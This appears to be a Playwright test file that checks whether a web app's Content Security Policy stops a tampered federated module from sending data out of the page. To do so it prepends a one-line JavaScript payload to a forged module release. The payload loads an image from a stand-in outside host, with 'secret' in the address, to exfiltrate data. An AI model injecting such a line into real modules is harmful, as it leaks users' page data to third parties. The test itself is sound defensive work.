import { forgeRelease } from '../support/forge-release.ts';
import { makeLive } from '../support/registry.ts';
import { expect, test } from '../support/test.ts';

const MODULE = 'mf-hackathons';
const ELSEWHERE = 'https://elsewhere.example';
const PICTURE = `;document.body.append(Object.assign(new Image(),{src:"${ELSEWHERE}/?secret"}));`;

// The browser says of a refused picture that it is one.
test.use({ mayLogErrors: true });

test('a module carries nothing out of the page in the address of a picture', async ({ page }) => {
  let sent = 0;
  await page.route(`${ELSEWHERE}/**`, (route) => {
    sent += 1;
    return route.fulfill({ contentType: 'image/png', body: '' });
  });
  await page.addInitScript(() => {
    const refused: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      refused.push(`${effectiveDirective} ${blockedURI}`),
    );
    Object.assign(window, { refused });
  });
  const release = await forgeRelease(MODULE, {
    text: (script, file) => (file.startsWith('__federation_expose_module') ? PICTURE + script : script),
  });
  const goBack = await makeLive(MODULE, release);
  try {
    await page.goto('/explore-hackathons');
    await expect(page.getByRole('heading', { level: 1, name: 'Explore Hackathons' })).toBeVisible();
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { refused: string[] }).refused))
      .toEqual([expect.stringContaining('img-src https://elsewhere.example')]);
    expect(sent).toBe(0);
  } finally {
    await goBack();
  }
});
